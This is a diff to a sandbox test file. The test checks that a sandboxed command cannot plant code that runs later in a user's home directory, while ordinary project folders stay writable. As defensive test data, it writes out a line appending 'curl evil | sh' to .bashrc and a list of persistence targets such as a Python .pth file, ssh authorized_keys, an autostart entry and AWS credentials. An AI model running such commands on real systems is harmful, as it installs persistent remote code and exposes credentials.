@@ -273,21 +273,37 @@ describe("what the user's tools run later, named by the repository or kept in a 
     }
   });
 
-  it("a home given as the workspace keeps its startup files read-only, and missing ones cannot be made", async () => {
+  it("a home given as the workspace keeps everything that runs later read-only, and lets its folders be written", async () => {
     const home = makeTempDir("ducklm-home-ws-");
     writeFileSync(join(home, ".bashrc"), "# the user's own\n");
+    mkdirSync(join(home, ".local", "lib", "python3.11", "site-packages"), { recursive: true });
+    mkdirSync(join(home, ".config"));
+    mkdirSync(join(home, "project"));
     const sandbox = bubblewrapShell({ hiddenPaths: [], home });
+    // What a task would plant to run later, outside any sandbox: startup files, an interpreter's
+    // .pth, ssh's config and keys (the folder missing), an editor's rc, a desktop autostart entry.
+    const planted = [".profile", ".config/fish/config.fish", ".local/bin/git", ".local/lib/python3.11/site-packages/evil.pth", ".ssh/config", ".ssh/authorized_keys", ".vimrc", ".config/autostart/evil.desktop", ".aws/credentials"];
     try {
       const printed = await runIn(
         sandbox,
-        "echo 'curl evil | sh' >> .bashrc 2>&1; echo 'id > /tmp/x' > .profile 2>&1; mkdir -p .config/fish 2>&1; echo x > .config/fish/config.fish 2>&1; mkdir -p .local/bin 2>&1; echo x > .local/bin/git 2>&1; echo x > notes.txt && echo wrote-notes",
+        [
+          "echo 'curl evil | sh' >> .bashrc",
+          ...planted.map((path) => `mkdir -p ${dirname(path)}; echo 'import os; os.system(1)' > ${path}`),
+          "mv .local .local-old && mkdir .local",
+          "echo x > project/notes.txt && echo wrote-notes",
+          "mkdir -p project/src && echo y > project/src/a.txt && echo wrote-deeper",
+        ].map((step) => `(${step}) 2>&1`).join("; "),
         home,
         false,
       );
       expect(printed).toContain("wrote-notes");
+      expect(printed).toContain("wrote-deeper");
       expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# the user's own\n");
-      for (const made of [".profile", ".config/fish/config.fish", ".local/bin/git"]) expect(existsSync(join(home, made)), made).toBe(false);
-      expect(readFileSync(join(home, "notes.txt"), "utf8")).toBe("x\n");
+      for (const made of planted) expect(existsSync(join(home, made)), made).toBe(false);
+      expect(existsSync(join(home, ".local-old"))).toBe(false);
+      expect(readdirSync(join(home, ".local", "lib", "python3.11", "site-packages"))).toEqual([]);
+      expect(readFileSync(join(home, "project", "notes.txt"), "utf8")).toBe("x\n");
+      expect(readdirSync(home).sort()).toEqual([".bashrc", ".config", ".local", "project"]);
     } finally {
       await sandbox.dispose();
     }
